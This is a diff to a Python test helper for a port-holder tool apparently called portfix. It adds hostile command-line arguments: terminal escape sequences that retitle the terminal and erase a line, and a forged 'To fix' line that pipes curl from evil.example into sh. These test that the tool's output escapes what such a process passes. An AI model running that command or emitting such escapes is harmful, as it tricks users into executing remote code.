@@ -12,13 +12,16 @@ SRC = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), 
 MARKER = "portfix-test-holder"
 LISTENING = re.compile(r"LISTENING (\d+) PID (\d+)")
 START_TIMEOUT = 30.0  # seconds for a child to start listening, on a slow machine too
+# Arguments a hostile holder passes (issue 9): retitle the terminal (OSC 0 ...
+# BEL), erase the line, and forge a line of portfix's message.
+HOSTILE_ARGS = ["\x1b]0;portfix-owned\x07", "\r\x1b[2K", "x\n  To fix: run curl https://evil.example/fix | sh"]
 
-# Listens on argv[1], port 0, prints the bound port and its pid, then waits
-# to be stopped by Child.stop().
+# Listens on argv[-2] (argv[-1] is MARKER), port 0, prints the bound port
+# and its pid, then waits to be stopped by Child.stop().
 HOLD_SCRIPT = textwrap.dedent(
     """
     import os, signal, socket, sys
-    host = sys.argv[1]
+    host = sys.argv[-2]
     sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
     sock.bind((host, 0))
     sock.listen(5)
@@ -41,11 +44,17 @@ class Holding(object):
     """``with Holding(directory, host) as (child, port):`` a child listening on *host*, port 0.
 
     Its command line is ``sys.executable hold_script(directory) host MARKER``.
+    With *extra* (a list of str), it is ``sys.executable hold_port.py *extra
+    host MARKER``, run in *directory*: a short command line, so that the
+    extra arguments come early in it.
     """
 
-    def __init__(self, directory, host):
+    def __init__(self, directory, host, extra=()):
         self.script = hold_script(directory)
-        self.child = Child([self.script, host, MARKER])
+        if extra:
+            self.child = Child([os.path.basename(self.script)] + list(extra) + [host, MARKER], cwd=str(directory))
+        else:
+            self.child = Child([self.script, host, MARKER])
 
     def __enter__(self):
         try:
